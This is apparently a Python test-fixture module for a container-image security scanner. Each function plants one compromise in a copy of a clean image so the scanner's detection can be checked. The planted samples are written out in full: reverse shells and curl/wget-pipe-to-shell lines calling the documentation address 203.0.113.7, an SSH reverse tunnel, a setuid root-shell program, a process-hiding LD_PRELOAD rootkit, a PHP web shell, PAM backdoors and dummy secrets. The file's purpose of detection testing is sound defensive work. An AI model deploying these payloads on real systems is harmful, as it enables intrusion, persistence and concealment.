# SPDX-License-Identifier: Apache-2.0
"""What somebody can do to an image, one trick a function; poison makes twins of a clean image with them, quality counts which are found.

A trick changes the twin `t` and names what has to be found: rules (a regular expression), at least that level, and at which path (None: any, "-": none).
Bait that scanners of repositories would stumble over is put together while the twin is made.
"""
import base64
import gzip
import os
import re
import subprocess
import tempfile
import zlib

LEVELS = ["critical", "high", "medium", "low", "info"]
TRICKS = {}


class Trick:
    def __init__(self, make, row, rules, path, level, alone):
        self.name, self.make, self.row, self.rules = make.__name__.replace("_", "-"), make, row, rules
        self.path, self.level, self.alone, self.what = path, level, alone, make.__doc__.strip()

    def found(self, finding):
        return (re.fullmatch(self.rules, finding["rule"]) and LEVELS.index(finding["level"]) <= LEVELS.index(self.level)
                and (self.path is None or finding.get("path", "-") == self.path))


def trick(row, rules, path=None, level="medium", alone=False):
    """alone: it changes what other tricks look at, so that it is never put into a twin with them."""
    def add(make):
        t = Trick(make, row, rules, path, level, alone)
        TRICKS[t.name] = t
        return make
    return add


def run(*argv, **more):
    return subprocess.run(argv, check=True, capture_output=True, **more).stdout


def deb(t, package):
    """The files of a Debian package, from the cache of the tests."""
    return t.deb(package)


def private_key():
    return run("openssl", "genpkey", "-algorithm", "rsa", "-pkeyopt", "rsa_keygen_bits:2048")


def compiled(source, *flags):
    with tempfile.TemporaryDirectory() as d:
        with open(d + "/x.c", "w") as f:
            f.write(source)
        run("cc", "-O1", "-o", d + "/x", d + "/x.c", *flags)
        with open(d + "/x", "rb") as f:
            return f.read()


def github_token():
    digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    body = "".join(digits[b % 62] for b in os.urandom(30))
    crc, tail = zlib.crc32(body.encode()), ""
    for _ in range(6):
        crc, r = divmod(crc, 62)
        tail = digits[r] + tail
    return "gh" + "p_" + body + tail


# ---------------------------------------------------------------------------- V1: what the image's purpose does not name

@trick("V1", "V1-ssh-server", level="high")
def ssh_package(t):
    """the package openssh-server, installed"""
    t.package("openssh-server")


@trick("V1", "V1-ssh-server", "usr/local/bin/metrics-agent", "high")
def ssh_other_name(t):
    """sshd under another name, no package"""
    t.file("usr/local/bin/metrics-agent", deb(t, "openssh-server")["usr/sbin/sshd"], 0o755)


@trick("V1", "V1-ssh-server", "opt/app/worker", "high")
def dropbear_other_name(t):
    """dropbear under another name, no package"""
    t.file("opt/app/worker", deb(t, "dropbear-bin")["usr/sbin/dropbear"], 0o755)


@trick("V1", "V1-.*|V8-reverse-shell", "usr/local/bin/start", "high")
def reverse_shell_at_start(t):
    """a start script that calls out with a shell"""
    t.file("usr/local/bin/start", "#!/bin/bash\nbash -i >& /dev/t" + "cp/203.0.113.7/443 0>&1 &\nexec \"$@\"\n", 0o755)


@trick("V1", "V1-.*|V8-reverse-shell", "etc/profile.d/locale.sh", "high")
def reverse_shell_at_login(t):
    """the same in etc/profile.d"""
    t.file("etc/profile.d/locale.sh", "#!/bin/sh\nrm -f /tmp/f; mkf" + "ifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | n" + "c 203.0.113.7 443 >/tmp/f\n")


@trick("V1", "V1-.*|V2-scheduled-job", "etc/cron.d/logrotate2", "medium")
def cron_job(t):
    """a job of cron that downloads and runs"""
    t.file("etc/cron.d/logrotate2", "* * * * * root curl -fsS http://203.0.113.7/x | sh\n")


@trick("V1", "V1-.*|V2-start-up-hook", "etc/systemd/system/update.service", "medium")
def unit_downloads(t):
    """a systemd unit that downloads and runs"""
    t.file("etc/systemd/system/update.service", "[Service]\nExecStart=/bin/sh -c 'wget -qO- http://203.0.113.7/x | sh'\n[Install]\nWantedBy=multi-user.target\n")


@trick("V1", "V1-.*|V8-reverse-shell", "srv/www/index.py", "high")
def remote_shell_script(t):
    """a Python script that gives a shell to whoever connects"""
    t.file("srv/www/index.py", "import socket,subprocess,os\ns=socket.so" + "cket()\ns.connect((\"203.0.113.7\",443))\nos.du" + "p2(s.fileno(),0)\nos.du"
           + "p2(s.fileno(),1)\nsubprocess.call([\"/bin/sh\",\"-i\"])\n", 0o755)


@trick("V1", "V1-tunnel", "usr/local/bin/health", "high")
def chisel_other_name(t):
    """chisel's marks in a program under another name"""
    t.file("usr/local/bin/health", compiled("const char m[]=\"github.com/jpi" + "llora/chisel/server\";int main(){return m[0];}"), 0o755)


@trick("V1", "V1-tunnel", "opt/tls", "high")
def stunnel_other_name(t):
    """stunnel under another name, no package"""
    t.file("opt/tls", deb(t, "stunnel4")["usr/bin/stunnel4"], 0o755)


@trick("V1", "V1-tunnel", "usr/local/bin/call-home", "high", alone=True)
def ssh_forward(t):
    """a script that brings a port of the container to somebody's machine"""
    t.file("usr/local/bin/call-home", "#!/bin/sh\nexec ssh -o StrictHostKeyChecking=no -N -R 2222:localhost:22 me@203.0.113.7\n", 0o755)


@trick("V1", "V1-.*|V8-reverse-shell", "usr/local/bin/feed", "high")
def socat_shell(t):
    """socat that gives a shell to whoever connects"""
    t.file("usr/local/bin/feed", "#!/bin/sh\nso" + "cat TCP-LISTEN:8081,fork EXEC:/bin/sh\n", 0o755)


# ------------------------------------------------------------------------------------------------------------ V2: accounts

@trick("V2", "V2-.*", "root/.ssh/authorized_keys", "high")
def authorized_key(t):
    """a key that opens root's account"""
    t.file("root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + base64.b64encode(os.urandom(32)).decode()[:43] + " me\n", 0o600)


@trick("V2", "V2-.*", "etc/passwd", "high")
def second_root(t):
    """a second account with uid 0"""
    t.edit("etc/passwd", lambda s: s + b"sync2:x:0:0::/root:/bin/bash\n")


@trick("V2", "V2-.*password", None, "medium")
def known_password(t):
    """an account with a password"""
    t.edit("etc/passwd", lambda s: re.sub(rb"(?m)^root:[^:]*:", b"root:$6$abcdefgh$" + b"a" * 86 + b":", s))


@trick("V2", "V2-empty-password", None, "high", alone=True)
def empty_password(t):
    """an account without a password"""
    t.edit("etc/passwd", lambda s: re.sub(rb"(?m)^root:[^:]*:", b"root::", s))


@trick("V2", "V2-.*", "etc/sudoers.d/app", "medium")
def sudo_without_password(t):
    """sudo without a password"""
    t.file("etc/sudoers.d/app", "ALL ALL=(ALL) NOPASSWD: ALL\n", 0o440)


# ----------------------------------------------------------------------------------------------------------- V3: integrity

@trick("V3", "V3-changed", "usr/bin/id", "high")
def program_changed(t):
    """a program of a package with other bytes"""
    t.edit("usr/bin/id", lambda s: s + b"\0")


def with_sums(t):
    import hashlib
    new = t.base("usr/bin/uname") + b"\0"
    t.file("usr/bin/uname", new, 0o755)
    t.edit("var/lib/dpkg/info/coreutils.md5sums", lambda s: re.sub(rb"(?m)^[0-9a-f]{32}(  usr/bin/uname|  bin/uname)$",
                                                                    hashlib.md5(new).hexdigest().encode() + rb"\1", s))


@trick("V3", "V3-.*", None, "medium", alone=True)
def program_and_digest_changed(t):
    """the same, and its digest in the package's md5sums as well"""
    with_sums(t)


@trick("V3", "V3-.*", None, "medium", alone=True)
def digests_removed(t):
    """a program changed, and the package's md5sums removed"""
    t.edit("usr/bin/uname", lambda s: s + b"\0")
    t.remove("var/lib/dpkg/info/coreutils.md5sums")


@trick("V3", "V3-changed|V4-.*", "usr/bin/tail", "high")
def program_is_script(t):
    """a program of a package that has become a script around it"""
    t.file("usr/bin/tail", "#!/bin/sh\nid >>/var/log/x\nexec /usr/bin/tail.real \"$@\"\n", 0o755)


# ------------------------------------------------------------------------------------------------ V4: files that nobody owns

@trick("V4", "V4-unowned", "usr/sbin/kworkerd", "medium")
def program_unowned(t):
    """a program among the system's that no package owns"""
    t.file("usr/sbin/kworkerd", t.base("usr/bin/id") + b"x", 0o755)


@trick("V4", "V4-unowned", "usr/lib/libz2.so.1", "medium")
def library_unowned(t):
    """a library that no package owns"""
    t.file("usr/lib/libz2.so.1", compiled("int x;\n", "-shared", "-fPIC"), 0o644)


@trick("V4", "V4-hidden-name", "var/lib/...", "high")
def name_dots(t):
    """a folder called "..." """
    t.file("var/lib/.../x", "data")


@trick("V4", "V4-hidden-name", "etc/passwd ", "high")
def name_space(t):
    """a name that ends with a space"""
    t.file("etc/passwd ", "data")


@trick("V4", "V4-hidden-name", "usr/bin/l\x08s", "high")
def name_control(t):
    """a name with a control character"""
    t.file("usr/bin/l\x08s", "data")


@trick("V4", "V4-hidden-name", "var/\u2024\u2024", "high")
def name_look_alike(t):
    """a name of Unicode dots"""
    t.file("var/\u2024\u2024", "data")


@trick("V4", "V4-hidden-name", "usr/sbin/s\u0455hd", "high")
def name_alphabet(t):
    """a name with a Cyrillic letter among Latin ones"""
    t.file("usr/sbin/s\u0455hd", "data")


@trick("V4", "V4-program-place", "tmp/.X11-unix/x", "high")
def program_in_tmp(t):
    """a program below /tmp"""
    t.file("tmp/.X11-unix/x", t.base("usr/bin/id"), 0o755)


@trick("V4", "V4-program-place", "var/tmp/run.sh", "high")
def script_in_var_tmp(t):
    """a script in /var/tmp"""
    t.file("var/tmp/run.sh", "#!/bin/sh\nid\n", 0o755)


@trick("V4", "V4-program-place", "dev/shm/x", "high")
def program_in_shm(t):
    """a program in /dev/shm, not even executable"""
    t.file("dev/shm/x", t.base("usr/bin/id"), 0o644)


@trick("V4", "V4-hidden-program", "usr/lib/.cache/agent", "high")
def program_behind_dot(t):
    """a program in a folder of the system whose name begins with a dot"""
    t.file("usr/lib/.cache/agent", t.base("usr/bin/id"), 0o755)


# --------------------------------------------------------------------------------------------------- V5: rights beyond

@trick("V5", "V5-privileged-shell|V5-set-uid", "usr/lib/klibc", "high")
def setuid_shell(t):
    """bash with set-uid under another name"""
    t.file("usr/lib/klibc", t.base("usr/bin/bash"), 0o4755)


@trick("V5", "V5-.*", "usr/bin/find", "high")
def setuid_find(t):
    """set-uid for a program of a package that can run others"""
    t.file("usr/bin/find", t.base("usr/bin/find"), 0o4755)


@trick("V5", "V5-.*", "var/lib/helper", "high")
def setuid_place(t):
    """a small set-uid program where nobody looks"""
    t.file("var/lib/helper", compiled("#include <unistd.h>\nint main(void){setuid(0);setgid(0);return execl(\"/bin/sh\",\"sh\",(char*)0);}\n"), 0o4755)


@trick("V5", "V5-.*", "usr/bin/tac", "high")
def file_capability(t):
    """CAP_SYS_ADMIN for a program of a package"""
    t.file("usr/bin/tac", t.base("usr/bin/tac"), 0o755, xattrs={"security.capability": "\x01\0\0\x02" + "\0\0\x20\0" + "\0" * 12})


@trick("V5", "V5-world-writable", "etc/group", "high")
def file_world_writable(t):
    """etc/group for everybody to write"""
    t.file("etc/group", t.base("etc/group"), 0o666)


@trick("V5", "V5-world-writable", "usr/local/bin", "high")
def folder_world_writable(t):
    """a folder of programs for everybody to write"""
    t.folder("usr/local/bin", 0o777)


# ------------------------------------------------------------------------------------------------------ V6: code for others

ROOTKIT = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static int name_of(const char *pid, char *out, int n)
{
	char path[300];
	FILE *f;
	if (strspn(pid, "0123456789") != strlen(pid))
		return 0;
	snprintf(path, sizeof(path), "/proc/%s/stat", pid);
	f = fopen(path, "r");
	if (!f || !fgets(out, n, f))
		return 0;
	fclose(f);
	return 1;
}
struct dirent64 *readdir64(DIR *d)
{
	struct dirent64 *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir64"), *e;
	char link[64], dir[300] = "", text[300];
	snprintf(link, sizeof(link), "/proc/self/fd/%d", dirfd(d));
	if (readlink(link, dir, sizeof(dir) - 1) < 0)
		dir[0] = 0;
	while ((e = real(d)) && strcmp(dir, "/proc") == 0 && name_of(e->d_name, text, sizeof(text)) && strstr(text, "(agent)"))
		;
	return e;
}
"""


@trick("V6", "V6-preload", "etc/ld.so.preload", "high")
def ld_preload_file(t):
    """a library of a rootkit in etc/ld.so.preload"""
    t.file("usr/lib/libsys.so.1", compiled(ROOTKIT, "-shared", "-fPIC"), 0o755)
    t.file("etc/ld.so.preload", "/usr/lib/libsys.so.1\n")


@trick("V6", "V8-rootkit-preload", "usr/lib/libperf.so.1", "high")
def rootkit_library(t):
    """the library of a rootkit, loaded by nobody yet"""
    t.file("usr/lib/libperf.so.1", compiled(ROOTKIT, "-shared", "-fPIC"), 0o755)


@trick("V6", "V6-preload", "-", "high")
def ld_preload_environment(t):
    """LD_PRELOAD in the image's environment"""
    t.env("LD_PRELOAD=/srv/lib/libhook.so")


@trick("V6", "V6-library-folder", "etc/ld.so.conf.d/app.conf", "high")
def ld_conf(t):
    """libraries are looked for in /var/tmp"""
    t.file("etc/ld.so.conf.d/app.conf", "/var/tmp/lib\n")


@trick("V6", "V6-path", None, "high")
def path_writable_first(t):
    """PATH begins with a folder that everybody can make"""
    t.env("PATH=/tmp/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin")


@trick("V6", "V6-pam", None, "high")
def pam_module(t):
    """a module of PAM that no package owns, in the stack of every login"""
    t.file("usr/lib/security/pam_audit2.so", t.base("usr/bin/id"))
    t.file("etc/pam.d/common-auth2", "auth sufficient /usr/lib/security/pam_audit2.so\n")


@trick("V6", "V6-pam", "etc/pam.d/other2", "high")
def pam_permit(t):
    """PAM lets everybody in"""
    t.file("etc/pam.d/other2", "auth sufficient pam_permit.so\n")


@trick("V6", "V6-pam", "etc/pam.d/login2", "high")
def pam_exec(t):
    """PAM runs a program with each password"""
    t.file("etc/pam.d/login2", "auth optional pam_exec.so expose_authtok /usr/local/bin/log\n")


@trick("V6", "V6-nss", None, "high")
def nss_module(t):
    """a module of NSS that no package owns"""
    t.file("usr/lib/libnss_cache2.so.2", t.base("usr/bin/id"))
    t.edit("etc/nsswitch.conf", lambda s: re.sub(rb"(?m)^hosts:.*$", b"hosts: cache2 files dns", s), b"hosts: cache2 files dns\n")


@trick("V6", "V6-python-start", None, "high")
def python_pth(t):
    """a .pth file that runs code at each start of Python"""
    t.file("usr/lib/python3/dist-packages/zz.pth", "import os; ex" + "ec(__import__('base64').b64decode('aW1wb3J0IG9z'))\n")


# -------------------------------------------------------------------------------------------------------------- V7: secrets

@trick("V7", "V7-private-key", "root/.ssh/id_rsa", "high")
def key_in_file(t):
    """a private key in a file"""
    t.file("root/.ssh/id_rsa", private_key(), 0o600)


@trick("V7", "V7-private-key", "build/deploy.key", "high")
def key_in_deleted_layer(t):
    """a private key that the next layer deletes"""
    t.file("build/deploy.key", private_key(), 0o600)
    t.layer("COPY deploy.key /build/")
    t.remove("build/deploy.key")


@trick("V7", "V7-ssh-host-key", "etc/ssh/ssh_host_rsa_key", "high")
def ssh_host_key(t):
    """the host key of an SSH server"""
    t.file("etc/ssh/ssh_host_rsa_key", private_key(), 0o600)


@trick("V7", "V7-aws-.*", None, "high")
def aws_in_environment(t):
    """keys of AWS in the environment"""
    t.env("AWS_ACCESS_KEY_ID=AK" + "IAQX7ZRB5TMK2WYVHD")
    t.env("AWS_SECRET_" + "ACCESS_KEY=" + base64.b64encode(os.urandom(27)).decode() + "aB3d")


@trick("V7", "V7-github-token|V7-url-password", None, "high")
def token_in_history(t):
    """a token of GitHub in a line of the history"""
    t.history("RUN |1 /bin/sh -c git clone https://x:" + github_token() + "@github.com/o/r")


@trick("V7", "V7-docker-auth", "root/.docker/config.json", "high")
def registry_password(t):
    """the password of a registry"""
    t.file("root/.docker/config.json", '{"auths":{"r.example.org":{"auth":"%s"}}}' % base64.b64encode(b"ci:Tr0ub4dor&3").decode(), 0o600)


@trick("V7", "V7-gcp-service-account", "srv/key.json", "high")
def cloud_account(t):
    """the key of a service account of Google Cloud"""
    t.file("srv/key.json", '{"type": "service_account", "private_key": "%s"}' % private_key().decode().replace("\n", "\\n"))


@trick("V7", "V7-shell-history", "root/.bash_history", "medium")
def shell_history(t):
    """the history of a shell"""
    t.file("root/.bash_history", "mysql -pTr0ub4dor\n", 0o600)


@trick("V7", "V7-dotenv", "srv/app/.env", "medium")
def password_in_settings(t):
    """a password in .env"""
    t.file("srv/app/.env", "DEBUG=0\nDB_PASSWORD=Tr0ub4dor\n")


@trick("V7", "V7-env-password", None, "high")
def password_in_environment(t):
    """a password in the environment"""
    t.env("MYSQL_ROOT_PASSWORD=Tr0ub4dor")


@trick("V7", "V7-netrc", "root/.netrc", "high")
def password_in_netrc(t):
    """a password in .netrc"""
    t.file("root/.netrc", "machine git.example.org login ci password Tr0ub4dor\n", 0o600)


# -------------------------------------------------------------------------------------------------------------- V8: malware

@trick("V8", "V8-miner-program", "usr/local/bin/php-fpm", "high")
def miner(t):
    """the texts of a miner in a program"""
    t.file("usr/local/bin/php-fpm", t.base("usr/bin/id") + b"strat" + b"um+tcp://\0mining.auth" + b"orize\0randomx\0", 0o755)


@trick("V8", "V8-miner-setting", "etc/app.json", "high")
def miner_settings(t):
    """the settings of a miner"""
    t.file("etc/app.json", '{"donate-' + 'level": 0, "pools": [{"url": "203.0.113.7:3333", "coin": "monero"}]}')


@trick("V8", "V8-webshell-php", "var/www/html/img.php", "high")
def web_shell(t):
    """a web shell in PHP"""
    t.file("var/www/html/img.php", "GIF89a<?php @ev" + "al($_PO" + "ST['c']); ?>")


@trick("V8", "V8-packed", "usr/local/bin/app", "high")
def packed(t):
    """a program whose code is encrypted, with what a packer leaves"""
    t.file("usr/local/bin/app", encrypted(t.base("usr/bin/bash")), 0o755)


@trick("V8", "V8-decode-to-shell", "usr/local/bin/setup", "high")
def encoded_script(t):
    """a script that decodes and runs"""
    t.file("usr/local/bin/setup", "#!/bin/sh\necho %s | base64 -" % base64.b64encode(b"id; uname -a").decode() + "d | sh\n", 0o755)


@trick("V8", "V8-hardening", "usr/local/bin/old", "medium")
def stack_executable(t):
    """a program with an executable stack"""
    t.file("usr/local/bin/old", compiled("int main(void){return 0;}\n", "-z", "execstack", "-no-pie"), 0o755)


@trick("V8", "V8-library-path", "usr/local/bin/tool", "medium")
def library_path(t):
    """a program that takes its libraries from /tmp"""
    t.file("usr/local/bin/tool", compiled("int main(void){return 0;}\n", "-Wl,-rpath,/tmp/lib"), 0o755)


def encrypted(elf):
    """The code of a 64-bit program as noise, one segment that is written and run, no section table."""
    b = bytearray(elf)
    phoff, phnum = int.from_bytes(b[32:40], "little"), int.from_bytes(b[56:58], "little")
    for i in range(phnum):
        p = phoff + 56 * i
        kind, flags = int.from_bytes(b[p:p + 4], "little"), int.from_bytes(b[p + 4:p + 8], "little")
        if kind == 1 and flags & 1:
            off, size = int.from_bytes(b[p + 8:p + 16], "little"), int.from_bytes(b[p + 32:p + 40], "little")
            b[off:off + size] = os.urandom(size)
            b[p + 4:p + 8] = (7).to_bytes(4, "little")
    b[40:48] = bytes(8)
    b[58:64] = bytes(6)
    return bytes(b)


# ---------------------------------------------------------------------------------------------- V9: known vulnerabilities

# What quality imports before it looks; nothing of Debian's bears these names.
ADVISORIES = {
    "brig-sample": {
        "CVE-2099-0001": {"releases": {"bookworm": {"status": "resolved", "fixed_version": "1.2-3+deb12u2", "urgency": "high"}}},
        "CVE-2099-0002": {"releases": {"bookworm": {"status": "open", "urgency": "high"}}},
    },
    "brig-backport": {
        "CVE-2099-0003": {"releases": {"bookworm": {"status": "resolved", "fixed_version": "1.2-3+deb12u2", "urgency": "high"}}},
    },
}


def record(t, package, source, version):
    t.edit("var/lib/dpkg/status", lambda s: s.rstrip(b"\n") + (
        "\n\nPackage: %s\nStatus: install ok installed\nArchitecture: amd64\nMaintainer: x\nSource: %s\nVersion: %s\nDescription: x\n"
        % (package, source, version)).encode())
    t.file("var/lib/dpkg/info/%s.list" % package, "/.\n")


@trick("V9", "V9-CVE-2099-0001|CVE-2099-0001", None, "high", alone=True)
def missing_fix(t):
    """a package without the fix that its distribution has"""
    record(t, "libbrig-sample1", "brig-sample", "1.2-3+deb12u1")


@trick("V9", "V9-CVE-2099-0002|CVE-2099-0002", None, "medium", alone=True)
def no_fix_yet(t):
    """a package with a vulnerability that nobody has mended; beside it one whose fix was brought back to an older version"""
    record(t, "libbrig-sample1", "brig-sample", "1.2-3+deb12u2")
    record(t, "brig-backport", "brig-backport", "1.2-3+deb12u2")


# -------------------------------------------------------------------------------------------------------- V10: configuration

@trick("V10", "V10-login-port", None, "medium")
def ssh_port(t):
    """port 22 is declared"""
    t.config.setdefault("ExposedPorts", {})["22/tcp"] = {}


@trick("V10", "V10-pipe-to-shell", "-", "medium")
def pipe_in_history(t):
    """a line of the history downloads and runs"""
    t.history("RUN /bin/sh -c curl -fsSL http://203.0.113.7/install.sh | bash")


@trick("V10", "V10-(?!login-port|root-user|pipe).*", "-", "medium")
def remote_add(t):
    """a line of the history adds what the network sent, without a digest"""
    t.history("ADD http://203.0.113.7/app.tar.gz /opt/")


@trick("V10", "V1-.*|V10-.*", None, "medium", alone=True)
def entrypoint_downloads(t):
    """the entrypoint downloads and runs"""
    t.config["Entrypoint"] = ["/bin/sh", "-c", "wget -qO- http://203.0.113.7/x | sh; exec \"$@\""]


@trick("V10", "V10-bomb", "srv/backup.gz", "medium")
def gzip_bomb(t):
    """a small file that is enormous unpacked"""
    t.file("srv/backup.gz", gzip.compress(bytes(200 << 20), 9))


@trick("V10", "V10-bomb", "/".join(["srv"] + ["d"] * 70 + ["x"]), "medium")
def deep_folders(t):
    """folders so deep that tools fail on them"""
    t.file("/".join(["srv"] + ["d"] * 70 + ["x"]), "x")


@trick("V10", "V10-engine-socket", None, "high")
def socket_of_an_engine(t):
    """a volume where an engine has its socket"""
    t.config.setdefault("Volumes", {})["/var/run/docker.sock"] = {}


# Tricks that no check finds, with the reason. quality fails when one is found after all, so that the list stays true.
UNSEEN = {
}

BLIND = """
- Row V9, known vulnerabilities, depends on advisories that a person imports: the tricks here bring theirs; its own tests compare it with the
  distribution's lists.
- A program of a package that was changed together with every record of it (status, list, digests, sizes and times made to fit) is the same
  to brig as another version of the package: only the distribution's signed index, which is not in the image, could tell.
- What a program does that nobody knows: a back door in a program of one's own, which no rule names, which has no odd name, place, rights or
  packing. Texts of a program can be encrypted; then only high entropy is left to see.
- Secrets without a form: a password as a plain word in a file of any name, a binary private key (DER), anything inside of archives, databases
  and compressed files, which are not unpacked.
- What is fetched only at run time. The walls and the journal are for that.
- Samples of miners, web shells and agents here are short texts and programs made by the tests, not the real ones, which are not kept in the
  repository. Rules go by published marks; a person adds rule sets in CONFIG/yara.
"""
